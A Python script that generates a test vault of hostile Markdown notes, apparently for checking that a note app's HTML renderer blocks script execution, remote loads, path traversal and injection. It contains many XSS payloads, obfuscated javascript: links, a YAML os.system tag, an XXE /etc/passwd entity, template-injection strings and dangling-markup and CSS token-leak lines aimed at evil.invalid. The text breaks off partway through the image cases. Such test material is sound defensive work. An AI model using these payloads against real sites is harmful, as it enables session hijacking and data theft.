"""A vault that attacks the pages which show it: written from the promises alone, without a look at the code of any page.

`python vault.py DIR` builds it there.  What is true of every page of it:
- nothing runs: no `pwned(` is ever called, no element or attribute of a note's own stands in the page;
- nothing is loaded but from the page's own address: no request to `evil.invalid`, nor to any other host;
- the page answers (200, or 404 where the note is hidden), is at most 100 kB and whole (`</html>` ends it);
- none of the words in FORBIDDEN is on any page, whoever asks for it.
Each case says in one line what must hold besides.
"""

from __future__ import annotations

import base64
import os
import sys
from pathlib import Path
from typing import NamedTuple

PRIVATE = "quillon"
"""Stands in private notes only: titles, aliases, tags, properties, facts, tasks, names of their headings."""
IGNORED = "bracken"
"""Stands in ignored notes and images only."""
INSIDE = "kestrel"
"""Stands in files of the vault that are no notes: .git, .aurelius, .obsidian, scripts, spread sheets."""
OUTSIDE = "marrow"
"""Stands beside the vault, where links of the file system lead."""
FORBIDDEN = (PRIVATE, IGNORED, INSIDE, OUTSIDE)

LAST = "The last line stands."
"""Ends most notes: it is shown, so what stands before it has swallowed nothing."""
REMOTE = "evil.invalid"
RUN = "pwned"

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


class Note(NamedTuple):
    """A file of the vault, what must hold of its page, and whether its last line must be seen there."""

    path: str
    text: str | bytes
    must: str
    last: bool = True

    @property
    def data(self) -> bytes:
        text = self.text if isinstance(self.text, bytes) else self.text.encode("utf-8", "surrogateescape")
        return text + f"\n\n{LAST}\n".encode() if self.last else text


class Asked(NamedTuple):
    """An address that is asked for with a session, the statuses it may answer with, and why."""

    target: str
    statuses: tuple[int, ...]
    must: str


SCRIPT = f"<script>{RUN}(1)</script>"
ONERROR = f"<img src=x onerror={RUN}(1)>"
BREAKOUT = f"\"><svg onload={RUN}(1)>"
SINGLE = f"'><img src=x onerror='{RUN}(1)'>"

# --- names, titles, properties -------------------------------------------------------------------------------------

TITLES = [
    Note("titles/script.md", f"---\ntitle: '{SCRIPT}'\n---\ntext", "the title is text in <title>, headings and lists"),
    Note("titles/close.md", f"# </title></head><body>{SCRIPT}", "the title does not end the head"),
    Note("titles/attribute.md", f"# x {BREAKOUT}", "the title stands in attributes (title=, aria-label=) without ending them"),
    Note("titles/single.md", f"# x {SINGLE}", "nor with single quotes"),
    Note("titles/comment.md", "# --> <!-- ]]> <![CDATA[ x", "no comment and no CDATA begins"),
    Note("titles/template.md", "---\ntitle: '{{ 7*7 }} {% include \"/etc/passwd\" %} ${7*7} #{7*7} <%= 7*7 %>'\n---\ntext", "shown as it is typed: 49 is nowhere"),
    Note("titles/empty.md", "---\ntitle: ''\n---\n#\n\ntext", "a link to it has a text that can be read and clicked"),
    Note("titles/spaces.md", "---\ntitle: '   '\n---\ntext", "as above"),
    Note("titles/zero-width.md", "# \u200b\u200d\u2060\ufeff", "as above"),
    Note("titles/bidi.md", "# invoice\u202efdp.exe\u2066 \u2069\u200f", "does not turn the page's own words round: isolated, or made visible"),
    Note("titles/controls.md", "# a\x1b[31mred\x07\x08\x0cb", "control characters are not sent as they are"),
    Note("titles/nested.md", f"# <<b>{SCRIPT}</b>> &lt;script&gt;{RUN}(2)&lt;/script&gt; &#60;script&#62;", "entities stay text when they are decoded once"),
    Note("titles/long.md", "# " + "Wwwwwwwwww" * 2000, "a heading of 20,000 characters does not make lists of it that long"),
    Note("titles/list.md", "---\ntitle: [a, {b: '<img src=x onerror=pwned(1)>'}]\n---\ntext", "a title that is a list does not fail"),
    Note("titles/number.md", "---\ntitle: 1e999\n---\ntext", "nor one that is infinite"),
    Note("titles/combining.md", "# Z" + "\u0301\u0489" * 400, "a tower of accents covers nothing else"),
    Note("titles/surrogate.md", b"# a\xed\xa0\x80b", "half of a surrogate pair does not fail"),
    Note("titles/noncharacter.md", "# a\ufffe\uffff\U0010ffffb", "nor characters that are none"),
    Note("titles/same-one.md", "# Same name", "two notes of one title are told apart"),
    Note("titles/same-two.md", "# Same name", "as above"),
]
PROPERTIES = [
    Note("properties/tags.md", f"---\ntags: ['{SCRIPT}', 'a\"b', \"c'd\", '#<b>', '../..', 'javascript:{RUN}(1)', '//{REMOTE}', 'a b', '']\n---\n# Tags", "tags are text, and their links lead to a page of ours"),
    Note("properties/inline-tags.md", f"# Inline\n\n#tag\"onmouseover={RUN}(1) #a/../../b #<script> #тег #标签 #a&b #a'b", "as above for tags within the text"),
    Note("properties/aliases.md", f"---\naliases: ['{SCRIPT}', '{ONERROR}', 'Joe\" onfocus=\"{RUN}(1)', '{{{{7*7}}}}']\n---\n# Aliases", "aliases are text"),
    Note("properties/values.md", f"---\n'{ONERROR}': '{SCRIPT}'\nurl: javascript:{RUN}(1)\nhomepage: https://{REMOTE}/x\ncover: //{REMOTE}/cover.png\nimage: data:text/html,{SCRIPT}\nicon: <svg onload={RUN}(1)>\ncssclasses: 'x\" onclick=\"{RUN}(1)'\n---\n# Values", "names and values are text; javascript: is no link; no cover is loaded"),
    Note("properties/deep.md", "---\na:\n" + "".join("  " * depth + f"b{depth}:\n" for depth in range(1, 18)) + "  " * 18 + f"c: '{SCRIPT}'\n---\n# Deep", "nested values are text"),
    Note("properties/type.md", f"---\ntype: '{BREAKOUT}'\nstatus: '<b>'\n---\n# Type", "a kind that is none is a note, its word text"),
    Note("properties/kind.md", "---\ntype: ../../static/style\n---\n# Kind", "a kind is no path"),
    Note("properties/categories.md", f"---\ncategories: ['[[{SCRIPT}]]', '[[People]]', '[[javascript:{RUN}(1)|People]]']\n---\n# Categories", "links in properties are links to notes or text"),
    Note("properties/dates.md", f"---\ndate: '{ONERROR}'\nupdated: 99999-99-99\ncreated: 2026-13-45\ndue: -1\n---\n# Dates", "a date that is none is shown as text or not at all"),
    Note("properties/bomb.md", "---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c]\n---\n# Bomb", "aliases of YAML are not unfolded"),
    Note("properties/python.md", f"---\nx: !!python/object/apply:os.system ['touch /tmp/{RUN}']\n---\n# Python", "nothing is made of a tag of YAML"),
    Note("properties/unclosed.md", f"---\ntitle: {SCRIPT}\nno end", "front matter without an end is text"),
    Note("properties/bold-header.md", f"# Bold\n\n**Type:** {SCRIPT}\n**Category:** {BREAKOUT}\n**Last Updated:** {ONERROR}", "the seed's bold header is text"),
    Note("properties/many.md", "---\n" + "".join(f"key{number}: value {number}\n" for number in range(800)) + "---\n# Many", "800 properties leave room for the text"),
    Note("properties/proto.md", "---\n__proto__: {x: 1}\nconstructor: 1\n__class__: 2\nitems: 3\nkeys: 4\nself: 5\n---\n# Proto", "names that a template or a script knows are only names"),
    Note("properties/inline-fields.md", f"# Fields\n\n[key:: {SCRIPT}] (other:: {BREAKOUT})\n{RUN}:: <img src=x onerror={RUN}(1)>", "key:: value is text"),
]
NAMES = [
    Note("names/a\"b'c.md", "# Quotes", "the address opens from a list"),
    Note(f"names/{ONERROR.replace('/', '')}.md", "no heading", "the name is a title, and text"),
    Note(f"names/{BREAKOUT}.md", "no heading", "as above, in href= and title= too"),
    Note("names/%2e%2e%2fetc%2fpasswd.md", "# Percent", "its address quotes the percent signs: opened, it is this note"),
    Note("names/%252e.md", "# Percent twice", "as above"),
    Note("names/%00.md", "# Percent null", "as above"),
    Note("names/100% sure?.md", "# Query", "a ? in a name is no query"),
    Note("names/with#hash.md", "# Hash", "a # in a name is no fragment"),
    Note("names/a&amp;b.md", "# Entity", "decoded once, not twice"),
    Note("names/a+b c.md", "# Plus", "a plus is no space"),
    Note("names/two\nlines.md", "# Newline", "no header of an answer is split by it"),
    Note("names/cr\r\nSet-Cookie: x=1.md", "# CRLF", "no header of an answer is split by it"),
    Note("names/tab\there.md", "# Tab", "opens"),
    Note("names/esc\x1b]0;x\x07.md", "# Escape", "the control characters are made visible"),
    Note("names/\u202egnp.exe.md", "# Override", "does not turn what follows it"),
    Note("names/p\u0430ul.md", "# Lookalike", "is another note than paul.md"),
    Note("names/paul.md", "# Paul", "as above"),
    Note("names/cafe\u0301.md", "# Composed of two", "is another note than the one of one letter, if the disk says so"),
    Note("names/caf\u00e9.md", "# Composed", "as above"),
    Note("names/" + "n" * 251 + ".md", "# Long", "255 bytes open"),
    Note("names/" + "\u6f22" * 84 + ".md", "# Long in Chinese", "252 bytes, 756 quoted, open"),
    Note(f"names/javascript:{RUN}(1).md", "no heading", "a link to it is an address of ours"),
    Note("names/http:evil.invalid.md", "no heading", "as above"),
    Note("names/back\\slash.md", "# Backslash", "is no folder"),
    Note("names/x..%5c..%5cx.md", "# Backslashes", "as above"),
    Note("names/[[x]] |y.md", "# Brackets", "a link to it can be written by the page"),
    Note("names/{{ 7*7 }}{% raw %}.md", "no heading", "shown as it is"),
    Note("names/-rf --help.md", "# Option", "is no option of a program that is started"),
    Note("names/ leading.md", "# Space first", "opens"),
    Note("names/trailing .md", "# Space last", "opens"),
    Note("names/dot..md", "# Two dots", "opens"),
    Note("names/con.md", "# Device", "opens where the system has it"),
    Note("names/\u200b.md", "no heading", "a link to it has a text that can be seen"),
    Note("names/bad\udcff.md", "# No UTF-8 in the name", "opens, or is told as one that does not; no list fails over it"),
    Note("names/<b>folder<b>/\" onclick=\"pwned(1)/x.md", "# Folders", "names of folders are text in the path that is shown"),
    Note("names/%2e%2e/x.md", "# Folder of percent", "opens"),
    Note("do/tick.md", "# Do", "a folder called like a route is only a folder"),
    Note("static/style.css.md", "# Static", "as above"),
    Note("note/note.md", "# Note", "as above"),
    Note("memory/search.md", "# Search", "as above"),
    Note("memory/0000-00-00.md", "# No day", "a day that is none breaks no calendar"),
    Note("memory/9999-12-31.md", "# The last day\n\n- far away", "a day at the end of time makes no calendar of 8,000 years"),
    Note("memory/0001-01-01.md", "# The first day\n\n- long ago", "as above"),
    Note("memory/2026-02-30.md", "# A day that is none", "as above"),
    Note(f"memory/2026-02-08-{ONERROR.replace('/', '')}.md", "- a line of the day", "the rest of a day's name is text"),
    Note(f"people/{SINGLE}.md", "---\ntype: person\n---\nno heading", "the list of people holds it as text"),
    Note(f"projects/{BREAKOUT.replace('/', '')}.md", "---\nstatus: active\n---\nno heading", "the list of projects holds it as text"),
    Note(f"companies/{ONERROR.replace('/', '')}.md", "no heading", "the list of companies holds it as text"),
]

# --- links ---------------------------------------------------------------------------------------------------------

DESTINATIONS = [
    f"javascript:{RUN}(1)",
    f"JaVaScRiPt:{RUN}(1)",
    f" javascript:{RUN}(1)",
    f"java\tscript:{RUN}(1)",
    f"java&#10;script:{RUN}(1)",
    f"java&NewLine;script:{RUN}(1)",
    f"javascript&colon;{RUN}(1)",
    f"&#106;avascript:{RUN}(1)",
    f"&#x6A;avascript&#x3A;{RUN}(1)",
    f"%6aavascript:{RUN}(1)",
    f"java%0ascript:{RUN}(1)",
    f"\\javascript:{RUN}(1)",
    f"\u0001javascript:{RUN}(1)",
    f"\u2028javascript:{RUN}(1)",
    f"\ufeffjavascript:{RUN}(1)",
    f"javascript://{REMOTE}/%0a{RUN}(1)",
    f"javascript:/*--></title></style></textarea>*/{RUN}(1)",
    f"vbscript:{RUN}(1)",
    f"livescript:{RUN}(1)",
    f"mocha:{RUN}(1)",
    f"jar:javascript:{RUN}(1)!/",
    f"view-source:javascript:{RUN}(1)",
    f"data:text/html,<script>{RUN}(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}(1)>",
    f"data:application/xhtml+xml,<script>{RUN}(1)</script>",
    f"blob:https://{REMOTE}/1",
    f"filesystem:https://{REMOTE}/1",
    "file:///etc/passwd",
    f"file://{REMOTE}/share",
    f"//{REMOTE}/x",
    f"///{REMOTE}/x",
    f"/\\{REMOTE}/x",
    f"\\\\{REMOTE}\\x",
    f"/\t/{REMOTE}/x",
    f"https:{REMOTE}/x",
    f"https:///{REMOTE}/x",
    f"http://127.0.0.1:1@{REMOTE}/",
    f"http://{REMOTE}#@127.0.0.1/",
    f"ftp://{REMOTE}/x",
    f"ws://{REMOTE}/x",
    f"obsidian://open?vault=x&file={RUN}",
    "shell:calc.exe",
    "ms-msdt:/id x",
    "search-ms:query=x",
    "about:blank",
    "chrome://settings",
    "mailto:a@example.invalid?subject=x%0d%0aBcc:y@example.invalid",
    "tel:+1;phone-context=x",
    f"?next=javascript:{RUN}(1)",
    "#\"onclick=\"pwned(1)",
    "/do/undo",
    "/do/tick?token=x",
    "/settings",
    "../../../etc/passwd",
    "../.git/config",
    ".aurelius/config.toml",
    "/note/../.git/config",
    "x\" onmouseover=\"pwned(1)",
    "x' onmouseover='pwned(1)",
    "x onmouseover=pwned(1)",
    "%",
    "%zz",
    "%ff%fe",
    "http://[",
    "http://[::1",
    "http://a:b:c/",
    "//",
    ":",
    "",
]


def _links(wrap: str) -> str:
    return "\n\n".join(f"{number}: " + wrap.replace("DEST", each) for number, each in enumerate(DESTINATIONS))


LINKS = [
    Note("links/inline.md", "# Inline\n\n" + _links("[click](<DEST>)"), "no href but http:, https:, mailto: or an address of a page of ours"),
    Note("links/bare.md", "# Bare\n\n" + _links("[click](DEST)"), "as above"),
    Note("links/titled.md", "# Titled\n\n" + _links(f"[click](DEST 'x\" onmouseover=\"{RUN}(1)')"), "the title of a link is text or not there"),
    Note("links/reference.md", "# Reference\n\n" + "\n".join(f"[click][r{number}] [r{number}]" for number in range(len(DESTINATIONS))) + "\n\n" + "\n".join(f"[r{number}]: <{each}> 'x\"><b>'" for number, each in enumerate(DESTINATIONS)), "as above for definitions"),
    Note("links/auto.md", "# Auto\n\n" + _links("<DEST>"), "as above for links in angles"),
    Note("links/wiki.md", "# Wiki\n\n" + _links("[[DEST]] and [[DEST|shown]] and [[DEST#part|shown]]"), "a wikilink leads to a note, or is text that says there is none"),
    Note("links/embed.md", "# Embed\n\n" + _links("![[DEST]] and ![[DEST|100]]"), "an embed shows a note or an image of the vault, or its own words"),
    Note("links/image.md", "# Image\n\n" + _links("![seen](<DEST>)"), "no src but /file/…"),
    Note("links/raw-urls.md", "# Raw\n\n" + _links("DEST"), "what looks like an address in text is text, or a link that leaves by a click only"),
    Note("links/text.md", f"# Text\n\n[{SCRIPT}](a.md) [a](<b.md> \"{SCRIPT}\") [[people/anna|{SCRIPT}]] [[{ONERROR}]] [[a#{BREAKOUT}]] [[a^\" onclick=\"{RUN}(1)]]", "the words of a link are text"),
    Note("links/nested.md", f"# Nested\n\n[a [b](javascript:{RUN}(1)) c](javascript:{RUN}(2)) ![a [b](x) ![c](//{REMOTE}/c.png)](//{REMOTE}/d.png) [![x](//{REMOTE}/e.png)](javascript:{RUN}(3))", "as above"),
    Note("links/dots.md", "# Dots\n\n[[../outside]] [[../../outside]] [[/etc/passwd]] [[./../outside.md]] ![[../outside.md]] ![[/etc/hostname]] [x](../outside.md) ![x](../outside.png) ![[people/../../outside]]", "nothing outside the vault is shown"),
    Note("links/self.md", "# Self\n\n![[links/self]] ![[self]] ![[#Self]] ![[links/self#Self]]", "a note that embeds itself ends"),
    Note("links/one.md", "# One\n\n![[links/two]]\n\n![[links/two]]", "notes that embed each other end"),
    Note("links/two.md", "# Two\n\n![[links/one]]\n\n![[links/one]]", "as above"),
    Note("links/fan0.md", "# Fan\n\n" + "![[links/fan1]]\n\n" * 10, "embeds of embeds (10 to the 4th) stay within 100 kB and a second"),
    Note("links/fan1.md", "# Fan 1\n\n" + "![[links/fan2]]\n\n" * 10, "as above"),
    Note("links/fan2.md", "# Fan 2\n\n" + "![[links/fan3]]\n\n" * 10, "as above"),
    Note("links/fan3.md", "# Fan 3\n\n" + "A line that is repeated.\n\n" * 10, "as above"),
    Note("links/embed-html.md", "# Embeds\n\n![[raw/everything]]\n\n![[html/script.md]]\n\n![[files/page.html]]\n\n![[files/run.js]]", "what is embedded is as harmless as it is alone"),
    Note("links/embed-block.md", "# Blocks\n\n![[people/hank#^\"><img]] ![[people/hank#Facts]] ![[people/hank#<script>]]", "parts that are not there are told"),
    Note("links/many.md", "# Many\n\n" + " ".join(f"[[nowhere {number}]]" for number in range(5000)), "5,000 links do not make a page of a megabyte"),
    Note("links/footnote.md", f"# Foot\n\nA[^1] b[^{ONERROR}] c[^\" onclick=\"{RUN}(1)] d^[inline {SCRIPT}]\n\n[^1]: {SCRIPT} [x](javascript:{RUN}(1)) [^1]\n[^{ONERROR}]: y\n[^\" onclick=\"{RUN}(1)]: z", "names of footnotes make no attributes; one that refers to itself ends"),
    Note("links/footnotes-named.md", "# Named\n\n[^a b] [^__proto__] [^#] [^main] [^content]\n\n[^a b]: 1\n\n[^__proto__]: 2\n\n[^#]: 3\n\n[^main]: 4\n\n[^content]: 5", "their anchors are no ids of the page's own"),
    Note("links/clobber.md", "# main\n\n## content\n\n## token\n\n## search\n\n## line-1\n\n## __proto__\n\n## createElement\n\n## \"><b>\n\n## main", "ids of headings are none of the page's own, and stand once"),
]

# --- raw HTML ------------------------------------------------------------------------------------------------------

HTML = {
    "script": f"<script>{RUN}(1)</script>\n\n<script src=https://{REMOTE}/x.js></script>\n\n<SCRIPT SRC=//{REMOTE}/x.js>\n\n<scr<script>ipt>{RUN}(2)</scr</script>ipt>",
    "handlers": f"<img src=x onerror={RUN}(1)>\n\n<body onload={RUN}(1)>\n\n<details open ontoggle={RUN}(1)>\n\n<input autofocus onfocus={RUN}(1)>\n\n<video><source onerror={RUN}(1)></video>\n\n<p onpointerover={RUN}(1)>x</p>\n\n<a/onclick={RUN}(1)>y</a>\n\n<marquee onstart={RUN}(1)>z</marquee>",
    "frames": f"<iframe src=https://{REMOTE}></iframe>\n\n<iframe srcdoc='<script>{RUN}(1)</script>'></iframe>\n\n<frameset onload={RUN}(1)>\n\n<portal src=//{REMOTE}>\n\n<fencedframe src=//{REMOTE}>",
    "objects": f"<object data=https://{REMOTE}/x.swf></object>\n\n<embed src=//{REMOTE}/x>\n\n<applet code=x>\n\n<param name=movie value=//{REMOTE}>",
    "meta": f"<meta http-equiv=refresh content='0;url=https://{REMOTE}'>\n\n<meta http-equiv=Set-Cookie content=x=1>\n\n<meta http-equiv=Content-Security-Policy content=''>\n\n<meta name=referrer content=unsafe-url>",
    "base": f"<base href=https://{REMOTE}/>\n\n[a link](people/anna.md)",
    "link": f"<link rel=stylesheet href=https://{REMOTE}/x.css>\n\n<link rel=preload as=image href=//{REMOTE}/p>\n\n<link rel=dns-prefetch href=//{REMOTE}>\n\n<link rel=import href=//{REMOTE}>",
    "form": f"<form action=https://{REMOTE} method=post><input name=token><button>Go</button></form>\n\n<form action=/do/undo method=post><input type=submit></form>\n\n<button formaction=https://{REMOTE}>x</button>\n\n<input type=image src=//{REMOTE}/x formaction=//{REMOTE}>\n\n</form></form>\n\n<isindex action=//{REMOTE}>",
    "style": f"<style>@import url(//{REMOTE}/x.css);*{{background:url(//{REMOTE}/b)}} input[name=token][value^=a]{{background:url(//{REMOTE}/a)}}</style>\n\n<p style='position:fixed;inset:0;background:url(//{REMOTE}/c)'>over all</p>\n\n<div style=width:expression({RUN}(1))>",
    "svg": f"<svg onload={RUN}(1)><script>{RUN}(2)</script><use href=//{REMOTE}/x.svg#a /><image href=//{REMOTE}/y.png /><a xlink:href=javascript:{RUN}(3)><text>z</text></a><animate attributeName=href values=javascript:{RUN}(4) /><foreignObject><iframe src=javascript:{RUN}(5)></foreignObject></svg>",
    "math": f"<math><mtext></math><img src=x onerror={RUN}(1)>\n\n<math href=javascript:{RUN}(2)>x</math>\n\n<math><annotation-xml encoding=text/html><svg onload={RUN}(3)>\n\n<math><mi//xlink:href=data:x,{RUN}>",
    "template": f"<template><script>{RUN}(1)</script></template>\n\n<slot onslotchange={RUN}(2)>\n\n<template shadowrootmode=open><style>:host{{all:unset}}</style></template>",
    "mutation": f"<noscript><p title='</noscript><img src=x onerror={RUN}(1)>'>\n\n<svg></p><style><a id='</style><img src=x onerror={RUN}(2)>'>\n\n<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}(3)>\n\n<textarea></textarea><script>{RUN}(4)</script>\n\n<xmp><p title='</xmp><img src=x onerror={RUN}(5)>'>\n\n<listing>&lt;img onerror={RUN}(6)&gt;</listing>\n\n<select><template><img src=x onerror={RUN}(7)></template></select>",
    "unclosed": f"<textarea>\n\n<plaintext>\n\n<xmp>\n\n<noembed>\n\n<title>\n\n<select>\n\n<table><tr><td>\n\n<a href='https://{REMOTE}/?",
    "dangling": f"<img src='https://{REMOTE}/?leak=\n\n<a href=\"https://{REMOTE}/?leak=\n\n<form action=\"https://{REMOTE}/\n\n<button name='",
    "close": f"</main></body></html><script>{RUN}(1)</script>\n\n</div></div></div></section></article>\n\n</textarea></title></style></script>",
    "ids": "<div id=main>a</div>\n\n<img name=getElementById>\n\n<form id=token><input name=parentNode></form>\n\n<a id=document name=cookie>x</a>\n\n<p class=aurelius data-action=undo hx-get=/do/undo>y</p>",
    "entities": f"&lt;script&gt;{RUN}(1)&lt;/script&gt;\n\n&#60;img src=x onerror={RUN}(2)&#62;\n\n&#x3c;svg onload={RUN}(3)&#x3e;\n\n&amp;lt;script&amp;gt;\n\n\\<script>{RUN}(4)\\</script>\n\n+ADw-script+AD4-{RUN}(5)+ADw-/script+AD4-",
    "odd": f"<\x00script>{RUN}(1)</script>\n\n<script\x0c>{RUN}(2)</script>\n\n<script/x>{RUN}(3)</script>\n\n<a\thref=javascript:{RUN}(4)>x</a>\n\n<?xml-stylesheet href=//{REMOTE}/x.xsl?>\n\n<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>\n\n<![CDATA[<script>{RUN}(5)</script>]]>\n\n<!ELEMENT x>\n\n\uff1cscript\uff1e{RUN}(6)\uff1c/script\uff1e",
    "media": f"<video autoplay src=https://{REMOTE}/v.mp4 poster=//{REMOTE}/p.png></video>\n\n<audio src=//{REMOTE}/a.mp3 autoplay></audio>\n\n<img srcset='//{REMOTE}/s.png 2x' src=//{REMOTE}/t.png>\n\n<picture><source srcset=//{REMOTE}/u.png></picture>\n\n<track src=//{REMOTE}/w.vtt>\n\n<body background=//{REMOTE}/bg.png>\n\n<table background=//{REMOTE}/tb.png>\n\n<a ping=//{REMOTE}/ping href=#>x</a>",
    "dialogs": "<dialog open>Type your password <input type=password></dialog>\n\n<details open><summary>x</summary></details>\n\n<p popover=manual>x</p>\n\n<p contenteditable accesskey=s tabindex=1 autofocus>x</p>\n\n<h1 hidden>x</h1>",
}
RAW = [
    *(Note(f"html/{name}.md", f"# Raw {name}\n\n{text}", "shown as the text it is, or not at all; no element comes of it") for name, text in HTML.items()),
    *(Note(f"html/inline-{name}.md", f"# Inline {name}\n\n- in a list {text.split(chr(10))[0]} and after\n\n> in a quote {text.split(chr(10))[0]} and after\n\n## In a heading {text.split(chr(10))[0]}", "as above, within a line") for name, text in HTML.items()),
    Note("raw/everything.md", "# Everything\n\n" + "\n\n".join(HTML.values()), "as above, all in one note"),
    Note("raw/comments.md", f"# Comments\n\nseen <!-- hidden {SCRIPT} --> seen\n\n<!-->{SCRIPT}-->\n\n<!--->{SCRIPT}-->\n\n<!-- --!>{SCRIPT}\n\n-->\n\n<!--[if IE]>{SCRIPT}<![endif]-->\n\n%% {SCRIPT} %%\n\n%%\n{SCRIPT}\n%%", "no comment of a note is a comment of the page"),
    Note("raw/comment-unclosed.md", f"# Open\n\n<!-- never closed {SCRIPT}\n\nmore", "the page's own foot is there"),
    Note("raw/comment-percent.md", f"# Open\n\n%% never closed {SCRIPT}\n\nmore", "as above"),
    Note("raw/tables.md", f"# Table\n\n| {SCRIPT} | {ONERROR} |\n|:--|--:|\n| [x](javascript:{RUN}(1)) | ![y](//{REMOTE}/y.png) |\n| `<script>` | [[a\\|{SCRIPT}]] |\n| only one |\n| a | b | c | d |", "cells are text, their alignment is no style= attribute"),
    Note("raw/tables-wide.md", "# Wide\n\n|" + "a|" * 600 + "\n|" + "-|" * 600 + "\n|" + "b|" * 600, "600 columns"),
    Note("raw/tasks.md", f"# Tasks\n\n- [ ] {SCRIPT} \U0001f4c5 2026-02-11\n- [x] {ONERROR}\n- [ ] [due:: {BREAKOUT}] x #<b>\n- [\"] odd\n- [<] odder\n- [/] half\n- [ ] \U0001f4c5 2026-99-99 \U0001f501 every {SCRIPT}\n- [ ] ", "boxes are ours alone; the list of tasks shows them as text"),
    Note("raw/callouts.md", f"# Callouts\n\n> [!{SCRIPT}] {SCRIPT}\n> x\n\n> [!note\" onclick=\"{RUN}(1)]- {ONERROR}\n> x\n\n> [!x y z] t\n> x\n\n> [!../../x]\n> x\n\n> [!warning]+ **{BREAKOUT}**\n> > [!nested] {SCRIPT}\n> > y\n\n> [!" + "a" * 3000 + "]\n> x\n\n> [!note]", "the kind of a callout is one of a fixed list, or no class is made of it"),
    Note("raw/math.md", f"# Math\n\n$<img src=x onerror={RUN}(1)>$ $$\\href{{javascript:{RUN}(2)}}{{x}}$$ $\\unicode{{<script>}}$ $$\n\\def\\a{{\\a\\a}}\\a {SCRIPT}\n$$ $" + "{" * 3000 + "$", "shown as text"),
    Note("raw/fences.md", "# Fences\n\n" + "\n\n".join(f"```{info}\ncode {SCRIPT}\n```" for info in ["\" onclick=\"pwned(1)", "'><script>pwned(1)</script>", "html", "javascript", "mermaid", "dataview", "dataviewjs", "svg", "math", "x y=z", "../../x", "a\u00a0b", "{.class onclick=pwned(1)}", "\x00", "L" * 5000]), "the language makes no attribute; code is text, nothing in it runs or is drawn"),
    Note("raw/mermaid.md", f"# Mermaid\n\n```mermaid\ngraph TD; A[\"{ONERROR}\"] --> B; click A \"javascript:{RUN}(1)\"\n```\n\n~~~dataviewjs\n{RUN}(1)\n~~~\n\n`$= {RUN}(2)` `= this.file`", "no program is made of a fence"),
    Note("raw/code-span.md", f"# Span\n\n`{SCRIPT}` ``{BREAKOUT}`` `{{{{ 7*7 }}}}`\n\n    {SCRIPT}", "code is text"),
    Note("raw/fence-unclosed.md", f"# Unclosed\n\n```js\n{SCRIPT}\n</code></pre>{ONERROR}", "the page's own foot is there"),
    Note("raw/template-text.md", "# {{ 7*7 }}\n\n{{ config }} {% include '/etc/passwd' %} {% for x in ().__class__.__bases__ %}{{ x }}{% endfor %} {# hidden #} ${{7*7}} {{{{ 7*7 }}}} {{ '<script>pwned(1)</script>'|safe }} {{ request.cookies }} <%= 7*7 %> %(name)s {0} {name!r}", "shown as it is typed: 49 is nowhere, nor a cookie"),
    Note("raw/definition.md", f"# Definition\n\nTerm {SCRIPT}\n: meaning {ONERROR}\n\n*[HTML]: {SCRIPT}\n\n[TOC]\n\n{{: onclick=\"{RUN}(1)\" style=\"x\"}}\n\ntext{{#id .class onclick={RUN}(1)}}\n\n# Heading {{#x onclick={RUN}(1)}}\n\n:::warning {BREAKOUT}\nx\n:::", "attributes in braces are text"),
    Note("raw/emphasis.md", f"# Marks\n\n**{SCRIPT}** *{ONERROR}* ~~{BREAKOUT}~~ =={SCRIPT}== <b>bold</b> ^sup^ ~sub~ ++{SCRIPT}++", "marks hold text"),
    Note("raw/emoji.md", f"# Emoji\n\n:smile: :{ONERROR}: :\" onclick=\"{RUN}(1): \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e6", "names of emoji are text"),
]

# --- images --------------------------------------------------------------------------------------------------------

IMAGES = [
    Note("images/remote.md", f"# Remote\n\n![a](https://{REMOTE}/a.png) ![b](http://{REMOTE}/b.png) ![c](//{REMOTE}/c.png) ![d](\\\\{REMOTE}\\d.png) ![e](/\\{REMOTE}/e.png) ![f][f] ![[https://{REMOTE}/g.png]] ![[//{REMOTE}/h.png|200]] ![i](HTTPS://{REMOTE}/i.png)\n\n[f]: https://{REMOTE}/f.png", "nothing is loaded; the words and the address are told"),
    Note("images/data.md", f"# Data\n\n![a](data:image/svg+xml,%3Csvg%20onload={RUN}(1)%3E) ![b](data:image/png;base64,iVBORw0KGgo=) ![c](data:text/html,{SCRIPT}) ![d](blob:x) ![e](filesystem:x)", "no data: either: the page's rule allows 'self' alone"),
    Note("images/alt.md", f"# Alt\n\n![{BREAKOUT}](files/dot.png) ![{SINGLE}](files/dot.png \"{BREAKOUT}\") ![[files/dot.png|{ONERROR}]] ![[files/dot.png|100x\" onload=\"{RUN}(1)]] ![](files/dot.png) ![{SCRIPT} **bold** [x](y)](files/dot.png)", "the other words of an image are text; its size is a number or not there"),
    Note("images/svg.md", "# SVG\n\n![a](files/script.svg) ![[files/script.svg]] [open](files/script.svg) ![b](files/doctype.svg) ![c](files/foreign.svg)", "opened by itself, an SVG runs nothing and loads nothing (CSP, nosniff), or is not served"),
    Note("images/not.md", "# Not images\n\n![a](files/page.html) ![b](files/run.js) ![c](files/fake.png) ![d](files/table.csv) ![e](people/anna.md) ![f](files/style.css) ![g](files/paper.pdf) ![h](files/noext) ![i](files/page.html.png) ![j](files/page.png.html)", "what is no image is not served, and never as HTML or script"),
    Note("images/traversal.md", "# Out\n\n![a](../outside.png) ![b](files/../../outside.png) ![c](/etc/passwd) ![d](%2e%2e/outside.png) ![e](files/%2e%2e%2f%2e%2e%2foutside.png) ![f](..%5coutside.png) ![g](files/out.png) ![h](files/folder/outside.png) ![i](.git/secret.png) ![j](.aurelius/secret.png) ![k](drafts/pic.png) ![[../outside.png]] ![[files/out.png]] ![[out.png]] ![l](files/absolute.png)", "no byte from outside the vault, from a hidden folder or from an ignored one"),
    Note("images/names.md", "# Names\n\n![a](<files/a b%22><.png>) ![[files/a b\"><.png]] ![b](files/a%20b%2522.png) ![c](<files/new\nline.png>) ![[files/pic?x=1#y.png]]", "names of images are quoted in src="),
